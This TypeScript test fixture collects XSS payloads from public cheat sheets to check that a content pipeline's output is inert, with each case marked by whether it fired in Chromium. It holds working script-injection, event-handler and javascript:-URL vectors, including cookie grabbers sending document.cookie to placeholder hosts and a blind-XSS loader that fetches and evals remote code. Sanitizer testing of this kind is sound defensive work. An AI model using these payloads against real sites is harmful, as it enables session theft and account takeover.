/**
 * Hostile input gathered from public XSS cheat sheets and known mutation-XSS
 * vectors (see each case's origin). It feeds the tests that put each payload
 * where an editor or translator could put it (a page's Markdown body, its
 * front matter title, a UI string, extra front matter YAML) and check that
 * what comes out of the pipeline is inert once a site inserts it with
 * innerHTML.
 *
 * `live` records what the raw, unsanitized payload did in Chromium 156,
 * measured (not guessed) with a tripwire page (scratch script
 * `.scratch/hostile-liveness/measure.ts`, not committed): 'static' when it
 * ran script placed in the body of a served document, 'innerHTML' when it ran
 * script assigned with `element.innerHTML` in a loaded page, 'both', or 'no'.
 * A trip is a call of alert, confirm, prompt, print, open, fetch,
 * XMLHttpRequest#open, sendBeacon or a script-set image URL (in any frame), a
 * dialog, a navigation of the page away from itself, or a request for
 * something that runs (a script, a document, an object or embed); images and
 * style sheets the markup itself loads do not count. Old Internet Explorer,
 * Netscape and Opera vectors, and those that need a click, a hover, a key or
 * a second parse, are 'no' and kept: they are part of the sheets. Raw HTML
 * body cases, titles and UI strings are measured (so a body case with `live`
 * is raw HTML); Markdown-specific body cases and front matter YAML leave it
 * undefined (they need a renderer or a YAML parser first).
 *
 * Attack kinds: 'script' (script elements, polyglots), 'event-handler',
 * 'url-scheme' (javascript:, vbscript:, data: and their obfuscations),
 * 'mutation' (markup that changes meaning between parses or parsers),
 * 'clobbering' (ids and names that shadow globals), 'style' (CSS that loads
 * or runs), 'embedding' (frames, objects, embeds), 'form', 'meta-base'
 * (meta refresh, charset, base), 'markdown' (abuse of Markdown, of this
 * project's extensions, and of template or interpolation syntax), 'yaml'.
 */
export type HostilePlace = 'body' | 'title' | 'ui' | 'front-matter';
export type HostileAttack = 'script' | 'event-handler' | 'url-scheme' | 'mutation' | 'clobbering' | 'style' | 'embedding' | 'form' | 'meta-base' | 'markdown' | 'yaml';
export interface HostileCase {
  /** Unique, kebab-case, at most 40 characters: file names are made from it. */
  readonly id: string;
  /** Where the vector comes from: cheat sheet or repository, and section. */
  readonly origin: string;
  readonly attack: HostileAttack;
  /** Where the payload goes: the Markdown body of a page; the front matter title; the value of a UI string; extra YAML lines in the front matter. */
  readonly place: HostilePlace;
  /** The payload, verbatim. */
  readonly payload: string;
  /** Whether the raw payload runs script in Chromium when put unsanitized into a page (see below); undefined for places where that does not apply. */
  readonly live?: 'static' | 'innerHTML' | 'both' | 'no';
}

export const hostileCases: readonly HostileCase[] = [
  // ---------------------------------------------------------------------
  // Body, raw HTML: script elements and polyglots.
  // ---------------------------------------------------------------------
  { id: 'script-owasp-basic', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Basic XSS Test Without Filter Evasion', attack: 'script', place: 'body', payload: '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>', live: 'static' },
  { id: 'script-basic', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (basic payload)', attack: 'script', place: 'body', payload: `<script>alert('XSS')</script>`, live: 'static' },
  { id: 'script-mixed-case', origin: 'PayloadsAllTheThings, XSS Injection, 1 - XSS Filter Bypass: Bypass Case Sensitive', attack: 'script', place: 'body', payload: '<sCrIpt>alert(1)</ScRipt>', live: 'static' },
  { id: 'script-nested-split', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (basic payload)', attack: 'script', place: 'body', payload: `<scr<script>ipt>alert('XSS')</scr<script>ipt>`, live: 'no' },
  { id: 'script-slash-src', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Non-alpha-non-digit XSS', attack: 'script', place: 'body', payload: '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>', live: 'static' },
  { id: 'script-slash-xss-src', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Non-alpha-non-digit XSS', attack: 'script', place: 'body', payload: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>', live: 'static' },
  { id: 'script-extra-open-bracket', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Extraneous Open Brackets', attack: 'script', place: 'body', payload: '<<SCRIPT>alert("XSS");//<</SCRIPT>', live: 'static' },
  { id: 'script-no-closing-tag', origin: 'OWASP XSS Filter Evasion Cheat Sheet: No Closing Script Tags', attack: 'script', place: 'body', payload: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >', live: 'static' },
  { id: 'script-protocol-relative', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Protocol Resolution in Script Tags', attack: 'script', place: 'body', payload: '<SCRIPT SRC=//xss.rocks/.j>', live: 'static' },
  { id: 'script-quoted-gt-attribute', origin: 'OWASP XSS Filter Evasion Cheat Sheet: XSS Using HTML Quote Encapsulation', attack: 'script', place: 'body', payload: '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>', live: 'no' },
  { id: 'script-end-title-owasp', origin: 'OWASP XSS Filter Evasion Cheat Sheet: End Title Tag', attack: 'script', place: 'body', payload: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>', live: 'static' },
  { id: 'script-data-base64-src', origin: 'PayloadsAllTheThings, XSS Injection: XSS in wrappers javascript and data URI (data:)', attack: 'script', place: 'body', payload: '<script src="data:;base64,YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=="></script>', live: 'static' },
  { id: 'script-unicode-escapes', origin: 'PayloadsAllTheThings, XSS Injection, 1 - XSS Filter Bypass: Bypass using Unicode', attack: 'script', place: 'body', payload: String.raw`<script>\u0061\u006C\u0065\u0072\u0074(1)</script>`, live: 'static' },
  { id: 'script-onerror-throw', origin: 'PayloadsAllTheThings, XSS Injection, 1 - XSS Filter Bypass: Bypass Parenthesis and Semi Colon (@garethheyes)', attack: 'script', place: 'body', payload: '<script>onerror=alert;throw 1337</script>', live: 'static' },
  { id: 'script-new-image-grabber', origin: 'PayloadsAllTheThings, XSS Injection: Exploit code or POC, Data grabber for XSS', attack: 'script', place: 'body', payload: '<script>new Image().src="http://localhost/cookie.php?c="+document.cookie;</script>', live: 'static' },
  { id: 'script-location-grabber', origin: 'PayloadsAllTheThings, XSS Injection: Exploit code or POC, Data grabber for XSS', attack: 'script', place: 'body', payload: `<script>document.location='http://localhost/XSS/grabber.php?c='+document.cookie</script>`, live: 'static' },
  { id: 'script-xhr-blind', origin: 'PayloadsAllTheThings, XSS Injection: Blind XSS, XSS Hunter', attack: 'script', place: 'body', payload: '<script>function b(){eval(this.responseText)};a=new XMLHttpRequest();a.addEventListener("load", b);a.open("GET", "//yoursubdomain.xss.ht");a.send();</script>', live: 'static' },
  { id: 'script-location-javascript', origin: 'PortSwigger Cross-site scripting cheat sheet: Restricted characters, No parentheses using location redirect', attack: 'script', place: 'body', payload: String.raw`<script>location='javascript:alert\x281\x29'</script>`, live: 'static' },
  { id: 'script-navigation-navigate', origin: 'PortSwigger Cross-site scripting cheat sheet: Protocols, Navigation navigate method', attack: 'script', place: 'body', payload: "<script>navigation.navigate('javascript:alert(1)')</script>", live: 'no' },
  { id: 'svg-script-href-data', origin: 'PortSwigger Cross-site scripting cheat sheet: Protocols, SVG script href attribute without closing script tag', attack: 'script', place: 'body', payload: '<svg><script href="data:text/javascript,alert(1)" />', live: 'static' },
  { id: 'script-svg-inline', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #47', attack: 'script', place: 'body', payload: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(47)</script></svg>', live: 'static' },
  { id: 'script-xhtml-namespace', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #18', attack: 'script', place: 'body', payload: '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>', live: 'static' },
  { id: 'script-for-event-ie', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #48', attack: 'script', place: 'body', payload: '<SCRIPT FOR=document EVENT=onreadystatechange>alert(48)</SCRIPT>', live: 'no' },
  { id: 'script-in-b-attribute', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #57', attack: 'script', place: 'body', payload: '<b <script>alert(57)//</script>0</script></b>', live: 'no' },
  { id: 'polyglot-0xsobky', origin: 'PayloadsAllTheThings, XSS Injection: Polyglot XSS (0xsobky)', attack: 'script', place: 'body', payload: 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e', live: 'static' },
  { id: 'polyglot-owasp-locator', origin: 'OWASP XSS Filter Evasion Cheat Sheet: XSS Locator (Polyglot), after Gareth Heyes', attack: 'script', place: 'body', payload: 'javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload=\'+/"`/+/onmouseover=1/+/[*/[]/+alert(42);//\'>', live: 'static' },
  { id: 'polyglot-ashar-javed', origin: 'PayloadsAllTheThings, XSS Injection: Polyglot XSS (Ashar Javed)', attack: 'script', place: 'body', payload: String.raw`">><marquee><img src=x onerror=confirm(1)></marquee>" ></plaintext\></|\><plaintext/onmouseover=prompt(1) ><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>'-->" ></script><script>alert(1)</script>"><img/id="confirm&lpar; 1)"/alt="/"src="/"onerror=eval(id&%23x29;>'"><img src="http: //i.imgur.com/P8mL8.jpg">`, live: 'both' },

  // ---------------------------------------------------------------------
  // Body, raw HTML: event handlers (on load, error, focus, animation, and
  // the ones that need a user: hover, click, input).
  // ---------------------------------------------------------------------
  { id: 'img-onerror', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload, with alert(1))', attack: 'event-handler', place: 'body', payload: '<img src=x onerror=alert(1)>', live: 'both' },
  { id: 'img-onerror-fromcharcode', origin: 'OWASP XSS Filter Evasion Cheat Sheet: On Error Alert', attack: 'event-handler', place: 'body', payload: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>', live: 'both' },
  { id: 'img-onerror-padded-entities', origin: 'OWASP XSS Filter Evasion Cheat Sheet: IMG onerror and JavaScript Alert Encode', attack: 'event-handler', place: 'body', payload: '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">', live: 'both' },
  { id: 'img-onerror-eval-src', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload)', attack: 'event-handler', place: 'body', payload: '<img src=x:alert(alt) onerror=eval(src) alt=xss>', live: 'both' },
  { id: 'img-onerror-location-atob', origin: 'PortSwigger Cross-site scripting cheat sheet: Obfuscation, Img tag with base64 encoding', attack: 'event-handler', place: 'body', payload: '<img src=x onerror=location=atob`amF2YXNjcmlwdDphbGVydChkb2N1bWVudC5kb21haW4p`>', live: 'both' },
  { id: 'video-source-onerror-location', origin: 'PortSwigger Cross-site scripting cheat sheet: Restricted characters, XSS cookie exfiltration without parentheses, backticks or quotes', attack: 'event-handler', place: 'body', payload: String.raw`<video><source onerror=location=/\02.rs/+document.cookie>`, live: 'both' },
  { id: 'img-slash-separators', origin: 'PayloadsAllTheThings, XSS Injection, 1 - XSS Filter Bypass: Bypass Space Filter', attack: 'event-handler', place: 'body', payload: `<img/src='1'/onerror=alert(0)>`, live: 'both' },
  { id: 'svg-formfeed-separators', origin: 'PayloadsAllTheThings, XSS Injection, 1 - XSS Filter Bypass: Bypass Space Filter (0x0c)', attack: 'event-handler', place: 'body', payload: '<svg\u000Conload\u000C=\u000Calert(1)\u000C>', live: 'static' },
  { id: 'img-onerror-vertical-tab', origin: 'PayloadsAllTheThings, XSS Injection, 1 - XSS Filter Bypass: Bypass onxxxx Blacklist (vertical tab)', attack: 'event-handler', place: 'body', payload: `<img src='1' onerror\u000B=alert(0) />`, live: 'no' },
  { id: 'img-incomplete-tag', origin: 'PayloadsAllTheThings, XSS Injection, 1 - XSS Filter Bypass: Bypass with Incomplete HTML Tag', attack: 'event-handler', place: 'body', payload: `<img src='1' onerror='alert(0)' <`, live: 'static' },
  { id: 'svg-onload-slash', origin: 'OWASP XSS Filter Evasion Cheat Sheet: SVG Object Tag', attack: 'event-handler', place: 'body', payload: `<svg/onload=alert('XSS')>`, live: 'static' },
  { id: 'svg-onload-unclosed', origin: 'PayloadsAllTheThings, XSS Injection, 1 - XSS Filter Bypass: Bypass ">" using Nothing', attack: 'event-handler', place: 'body', payload: '<svg onload=alert(1)//', live: 'static' },
  { id: 'body-onload', origin: 'OWASP XSS Filter Evasion Cheat Sheet: BODY Tag', attack: 'event-handler', place: 'body', payload: `<BODY ONLOAD=alert('XSS')>`, live: 'static' },
  { id: 'body-onload-junk-chars', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Non-alpha-non-digit XSS (RSnake fuzzer)', attack: 'event-handler', place: 'body', payload: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', live: 'no' },
  { id: 'body-onpageshow', origin: 'PortSwigger Cross-site scripting cheat sheet: Event handlers, onpageshow', attack: 'event-handler', place: 'body', payload: '<body onpageshow=alert(1)>', live: 'static' },
  { id: 'input-autofocus-onfocus', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5', attack: 'event-handler', place: 'body', payload: '<input autofocus onfocus=alert(1)>', live: 'both' },
  { id: 'select-autofocus-onfocus', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5', attack: 'event-handler', place: 'body', payload: '<select autofocus onfocus=alert(1)>', live: 'both' },
  { id: 'textarea-autofocus-onfocus', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5', attack: 'event-handler', place: 'body', payload: '<textarea autofocus onfocus=alert(1)>', live: 'both' },
  { id: 'keygen-autofocus-onfocus', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5', attack: 'event-handler', place: 'body', payload: '<keygen autofocus onfocus=alert(1)>', live: 'no' },
  { id: 'a-tabindex-onfocus', origin: 'PortSwigger Cross-site scripting cheat sheet: Event handlers, onfocus (a, needs #x in the URL)', attack: 'event-handler', place: 'body', payload: '<a id=x tabindex=1 onfocus=alert(1)></a>', live: 'no' },
  { id: 'input-onblur-two-autofocus', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #8', attack: 'event-handler', place: 'body', payload: '<input onblur=alert(8) autofocus><input autofocus>', live: 'no' },
  { id: 'details-open-ontoggle', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5', attack: 'event-handler', place: 'body', payload: '<details/open/ontoggle="alert`1`">', live: 'both' },
  { id: 'video-poster-onerror', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5', attack: 'event-handler', place: 'body', payload: '<video/poster/onerror=alert(1)>', live: 'no' },
  { id: 'video-source-onerror', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5', attack: 'event-handler', place: 'body', payload: '<video><source onerror="javascript:alert(1)">', live: 'both' },
  { id: 'video-onloadstart', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5', attack: 'event-handler', place: 'body', payload: '<video src=_ onloadstart="alert(1)">', live: 'both' },
  { id: 'audio-onloadstart', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5', attack: 'event-handler', place: 'body', payload: '<audio src onloadstart=alert(1)>', live: 'both' },
  { id: 'audio-src-onerror', origin: 'PortSwigger Cross-site scripting cheat sheet: Event handlers, onerror (audio)', attack: 'event-handler', place: 'body', payload: '<audio src/onerror=alert(1)>', live: 'both' },
  { id: 'marquee-onstart', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5', attack: 'event-handler', place: 'body', payload: '<marquee onstart=alert(1)>', live: 'no' },
  { id: 'iframe-onload', origin: 'PortSwigger Cross-site scripting cheat sheet: Event handlers, onload (iframe)', attack: 'event-handler', place: 'body', payload: '<iframe onload=alert(1)>', live: 'both' },
  { id: 'css-animation-onanimationstart', origin: 'PortSwigger Cross-site scripting cheat sheet: Event handlers, onanimationstart', attack: 'event-handler', place: 'body', payload: '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>', live: 'both' },
  { id: 'css-animation-onanimationend', origin: 'PortSwigger Cross-site scripting cheat sheet: Event handlers, onanimationend', attack: 'event-handler', place: 'body', payload: '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>', live: 'both' },
  { id: 'svg-animate-onbegin', origin: 'PortSwigger Cross-site scripting cheat sheet: Event handlers, onbegin (animate)', attack: 'event-handler', place: 'body', payload: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', live: 'both' },
  { id: 'svg-set-onbegin', origin: 'PortSwigger Cross-site scripting cheat sheet: Event handlers, onbegin (set)', attack: 'event-handler', place: 'body', payload: '<svg><set onbegin=alert(1) attributename=x dur=1s>', live: 'both' },
  { id: 'custom-tag-onpointerenter', origin: 'PortSwigger Cross-site scripting cheat sheet: Event handlers, onpointerenter', attack: 'event-handler', place: 'body', payload: '<xss onpointerenter=alert(1) style=display:block>XSS</xss>', live: 'no' },
  { id: 'a-onmouseover-malformed', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Malformed A Tags', attack: 'event-handler', place: 'body', payload: '<a onmouseover="alert(document.cookie)">xxs link</a>', live: 'no' },
  { id: 'img-src-hash-onmouseover', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Default SRC Tag to Get Past Filters that Check SRC Domain', attack: 'event-handler', place: 'body', payload: `<IMG SRC=# onmouseover="alert('xxs')">`, live: 'no' },
  { id: 'meter-onmouseover', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5', attack: 'event-handler', place: 'body', payload: '<meter value=2 min=0 max=10 onmouseover=alert(1)>2 out of 10</meter>', live: 'no' },
  { id: 'body-oninput-autofocus', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #86', attack: 'event-handler', place: 'body', payload: '<body oninput=alert(86)><input autofocus>', live: 'no' },
  { id: 'frameset-onload', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #31', attack: 'event-handler', place: 'body', payload: '<frameset onload=alert(31)>', live: 'no' },
  { id: 'svg-g-onload', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #11', attack: 'event-handler', place: 'body', payload: '<svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(11)"></g></svg>', live: 'no' },
  { id: 'div-content-url-onload', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: div with content:url() and onload (html5sec #41 variant)', attack: 'event-handler', place: 'body', payload: '<div style=content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden onload=alert(41)></div>', live: 'no' },
  { id: 'li-list-style-onerror', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #41', attack: 'event-handler', place: 'body', payload: '<li style=list-style:url() onerror=alert(41)></li>', live: 'no' },
  { id: 'input-unknown-attr-autofocus', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Bypass using unknown attributes IV', attack: 'event-handler', place: 'body', payload: '<input x=javascript: autofocus onfocus=alert(1)><svg id=1 onload=alert(1)></svg>', live: 'both' },
  { id: 'div-unknown-attr-onmouseover', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Bypass using unknown attributes III', attack: 'event-handler', place: 'body', payload: '<div wow=removeme onmouseover=alert(1)>text', live: 'no' },
  { id: 'button-onmousedown-onclick', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Bypass using event handlers and unknown attributes (@giutro)', attack: 'event-handler', place: 'body', payload: '<button remove=me onmousedown="javascript:alert(1);" onclick="javascript:alert(1)" >@giutro', live: 'no' },
  { id: 'a-js-href-onclick', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Bypass using JS URI in href (@shafigullin)', attack: 'event-handler', place: 'body', payload: '<a href="javascript:123" onclick="alert(1)">CLICK ME (bypass by @shafigullin)</a>', live: 'no' },
  { id: 'input-hidden-accesskey', origin: 'PortSwigger Cross-site scripting cheat sheet: Other useful attributes, Hidden inputs: Access key attributes', attack: 'event-handler', place: 'body', payload: '<input type="hidden" accesskey="X" onclick="alert(1)">', live: 'no' },
  { id: 'isindex-onmouseover', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Bypass using DOM bugs when dealing with JS URIs in arbitrary attributes (II)', attack: 'event-handler', place: 'body', payload: '<isindex x="javascript:" onmouseover="alert(1)" label="variation of bypass by @giutro">', live: 'no' },
  { id: 'object-onafterscriptexecute', origin: 'PayloadsAllTheThings, XSS Injection, 1 - XSS Filter Bypass: Bypass onxxxx Blacklist (less known tag)', attack: 'event-handler', place: 'body', payload: '<object onafterscriptexecute=confirm(0)>', live: 'no' },

  // ---------------------------------------------------------------------
  // Body, raw HTML: dangerous URL schemes in attributes.
  // ---------------------------------------------------------------------
  { id: 'img-src-js-fromcharcode', origin: 'OWASP XSS Filter Evasion Cheat Sheet: fromCharCode', attack: 'url-scheme', place: 'body', payload: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>', live: 'no' },
  { id: 'img-src-decimal-entities', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Decimal HTML Character References', attack: 'url-scheme', place: 'body', payload: '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>', live: 'no' },
  { id: 'img-src-padded-entities', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Decimal HTML Character References Without Trailing Semicolons', attack: 'url-scheme', place: 'body', payload: '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>', live: 'no' },
  { id: 'img-src-hex-entities', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Hexadecimal HTML Character References Without Trailing Semicolons', attack: 'url-scheme', place: 'body', payload: '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>', live: 'no' },
  { id: 'img-src-embedded-tab', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Embedded Tab', attack: 'url-scheme', place: 'body', payload: `<IMG SRC="jav\tascript:alert('XSS');">`, live: 'no' },
  { id: 'img-src-encoded-newline', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Embedded Newline to Break Up XSS', attack: 'url-scheme', place: 'body', payload: `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`, live: 'no' },
  { id: 'img-src-null-byte', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Break Up JavaScript Directive with Null', attack: 'url-scheme', place: 'body', payload: '<IMG SRC=java\u0000script:alert("XSS")>', live: 'no' },
  { id: 'img-src-leading-meta-chars', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Spaces and Meta Chars Before the JavaScript in Images', attack: 'url-scheme', place: 'body', payload: `<IMG SRC=" &#14;  javascript:alert('XSS');">`, live: 'no' },
  { id: 'img-src-vbscript', origin: 'OWASP XSS Filter Evasion Cheat Sheet: VBscript in an Image', attack: 'url-scheme', place: 'body', payload: `<IMG SRC='vbscript:msgbox("XSS")'>`, live: 'no' },
  { id: 'input-image-src-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: INPUT Image', attack: 'url-scheme', place: 'body', payload: `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`, live: 'no' },
  { id: 'body-background-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: BODY Image', attack: 'url-scheme', place: 'body', payload: `<BODY BACKGROUND="javascript:alert('XSS')">`, live: 'no' },
  { id: 'img-dynsrc-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: IMG Dynsrc', attack: 'url-scheme', place: 'body', payload: `<IMG DYNSRC="javascript:alert('XSS')">`, live: 'no' },
  { id: 'bgsound-src-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: BGSOUND', attack: 'url-scheme', place: 'body', payload: `<BGSOUND SRC="javascript:alert('XSS');">`, live: 'no' },
  { id: 'br-size-js-include', origin: 'OWASP XSS Filter Evasion Cheat Sheet: & JavaScript includes', attack: 'url-scheme', place: 'body', payload: `<BR SIZE="&{alert('XSS')}">`, live: 'no' },
  { id: 'table-background-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: TABLE', attack: 'url-scheme', place: 'body', payload: `<TABLE BACKGROUND="javascript:alert('XSS')">`, live: 'no' },
  { id: 'iframe-src-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: IFRAME', attack: 'url-scheme', place: 'body', payload: `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`, live: 'both' },
  { id: 'frameset-frame-src-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: FRAME', attack: 'url-scheme', place: 'body', payload: `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`, live: 'no' },
  { id: 'a-href-js-location', origin: 'OWASP XSS Filter Evasion Cheat Sheet: JavaScript Link Location', attack: 'url-scheme', place: 'body', payload: `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`, live: 'no' },
  { id: 'a-href-line-separator', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: JavaScript URIs using Unicode LS/PS I', attack: 'url-scheme', place: 'body', payload: `123<a href='\u2028javascript:alert(1)'>I am a dolphin!</a>`, live: 'no' },
  { id: 'a-href-low-ascii', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Low-range-ASCII obfuscated JavaScript URI', attack: 'url-scheme', place: 'body', payload: '<a href="\u0001java\u0003script:alert(1)">@shafigullin<a>', live: 'no' },
  { id: 'a-href-decimal-entities', origin: 'apostrophecms/sanitize-html issue #1 (NaughtyHref lets JS through)', attack: 'url-scheme', place: 'body', payload: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">Hax</a>', live: 'no' },
  { id: 'a-href-named-entities', origin: 'PortSwigger Cross-site scripting cheat sheet: Encoding, HTML entities', attack: 'url-scheme', place: 'body', payload: '<a href="javascript&colon;alert&lpar;1&rpar;">XSS</a>', live: 'no' },
  { id: 'embed-src-js', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #63', attack: 'url-scheme', place: 'body', payload: '<embed src="javascript:alert(63)"></embed>', live: 'no' },
  { id: 'video-poster-js', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #10', attack: 'url-scheme', place: 'body', payload: '<video poster=javascript:alert(10)//></video>', live: 'no' },
  { id: 'math-href-js', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #130', attack: 'url-scheme', place: 'body', payload: '<math href="javascript:alert(130)">CLICKME</math>', live: 'no' },
  { id: 'svg-a-xlink-href-js', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #87', attack: 'url-scheme', place: 'body', payload: '<svg xmlns="http://www.w3.org/2000/svg">\n<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(87)"><rect width="1000" height="1000" fill="white"/></a>\n</svg>', live: 'no' },
  { id: 'svg-animate-xlink-href-js', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #137', attack: 'url-scheme', place: 'body', payload: '<svg>\n<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="?">\n<circle r="400"></circle>\n<animate attributeName="xlink:href" begin="0" from="javascript:alert(137)" to="&" />\n</a>', live: 'no' },
  { id: 'svg-animate-values-href-js', origin: 'PortSwigger Web Security Academy lab: Reflected XSS with event handlers and href attributes blocked', attack: 'url-scheme', place: 'body', payload: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click me</text></a>', live: 'no' },
    { id: 'svg-set-xlink-to-js', origin: 'PortSwigger Cross-site scripting cheat sheet: Protocols, SVG set tag', attack: 'url-scheme', place: 'body', payload: '<svg><set xlink:href=#xss attributeName=href from=? to=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</text></a>', live: 'no' },
  { id: 'svg-set-animate-handler-attrs', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #89', attack: 'event-handler', place: 'body', payload: '<svg xmlns="http://www.w3.org/2000/svg">\n<set attributeName="onmouseover" to="alert(89)"/>\n<animate attributeName="onunload" to="alert(89)"/>\n</svg>', live: 'no' },
{ id: 'svg-animate-xlink-values-js', origin: 'PortSwigger Cross-site scripting cheat sheet: Protocols, SVG animate tag using values', attack: 'url-scheme', place: 'body', payload: '<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</text></a>', live: 'no' },
  { id: 'math-any-tag-href-js', origin: 'PortSwigger Cross-site scripting cheat sheet: Protocols, MathML makes any tag clickable', attack: 'url-scheme', place: 'body', payload: '<math><x href="javascript:alert(1)">blah', live: 'no' },
